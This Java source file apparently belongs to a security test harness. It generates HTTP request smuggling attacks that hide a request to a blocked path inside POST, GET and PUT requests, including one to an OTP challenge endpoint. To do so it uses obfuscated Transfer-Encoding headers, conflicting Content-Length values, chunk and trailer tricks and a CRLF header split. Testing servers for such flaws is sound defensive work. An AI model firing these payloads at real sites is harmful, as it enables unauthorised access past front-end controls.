package org.example.attack;

import java.util.ArrayList;
import java.util.List;

/** Requests hidden in the bodies, ends and beginnings of others, on connections kept alive. */
final class Smuggling {
  private final Site site;
  private final String cookie;

  Smuggling(Site site, Client client) {
    this.site = site;
    this.cookie = client.cookie();
  }

  List<Attack> all() {
    List<Attack> attacks = new ArrayList<>();
    for (String path : site.layout().closed()) {
      String hidden = head("GET", site.context() + path, "Connection: close") + "\r\n";
      for (String outer : List.of("/otp/challenge", site.layout().served(), path)) {
        add(attacks, path, hidden, outer);
      }
    }
    return attacks;
  }

  private void add(List<Attack> attacks, String path, String hidden, String outer) {
    String target = site.context() + outer;
    String chunked = "0\r\n\r\n" + hidden;
    for (String method : List.of("POST", "GET", "PUT")) {
      String name = method + " " + outer + " with " + path + " hidden by ";
      for (String te :
          List.of(
              "Transfer-Encoding: chunked",
              "Transfer-Encoding : chunked",
              "Transfer-Encoding: xchunked",
              "Transfer-Encoding:\tchunked",
              "Transfer-Encoding: identity, chunked",
              "Transfer-Encoding: chunked, identity",
              "Transfer-Encoding: gzip, chunked",
              "Transfer-Encoding:\u000bchunked",
              "X: y\r\n Transfer-Encoding: chunked",
              "Transfer-Encoding: \"chunked\"",
              "transfer-encoding: CHUNKED",
              "Transfer-Encoding: x\r\nTransfer-Encoding: chunked")) {
        attacks.add(
            Attack.alone(
                name + te,
                head(method, target, "Content-Length: " + chunked.length(), te)
                    + "\r\n"
                    + chunked));
      }
      String body = "code=000000";
      for (String length :
          List.of(
              "Content-Length: 0",
              "Content-Length: 11\r\nContent-Length: 0",
              "Content-Length: 0\r\nContent-Length: 11",
              "Content-Length: +11",
              "Content-Length: -1",
              "Content-Length: 0, 11",
              "Content-Length: 0x0b",
              "Content-Length: 11 ",
              "Content-Length : 11",
              "Content-Length: 4294967307",
              "X: y")) {
        attacks.add(
            Attack.alone(
                name + length, head(method, target, Client.FORM, length) + "\r\n" + body + hidden));
      }
      attacks.add(
          Attack.alone(
              name + "chunk sizes",
              head(method, target, "Transfer-Encoding: chunked")
                  + "\r\n0;x=\"\r\n\r\n"
                  + hidden
                  + "0\r\n\r\n"));
      attacks.add(
          Attack.alone(
              name + "trailers",
              head(method, target, "Transfer-Encoding: chunked", "Trailer: Host")
                  + "\r\n0\r\nHost: x\r\n\r\n"
                  + hidden));
      attacks.add(
          Attack.alone(
              name + "a length of chunks",
              head(method, target, "Transfer-Encoding: chunked")
                  + "\r\nffffffffffffffff\r\n"
                  + hidden));
    }
    attacks.add(
        Attack.alone("pipelined " + outer + " " + path, head("GET", target) + "\r\n" + hidden));
    attacks.add(
        Attack.alone(
            "head split " + outer + " " + path,
            head("GET", target + "%20HTTP/1.1%0d%0aX:%20y%0d%0a%0d%0a") + "\r\n" + hidden));
  }

  private String head(String method, String target, String... headers) {
    StringBuilder head = new StringBuilder(method + " " + target + " HTTP/1.1\r\n");
    head.append("Host: ").append(site.authority()).append("\r\n");
    head.append("Cookie: ").append(cookie).append("\r\n");
    for (String header : headers) {
      head.append(header).append("\r\n");
    }
    return head.toString();
  }
}
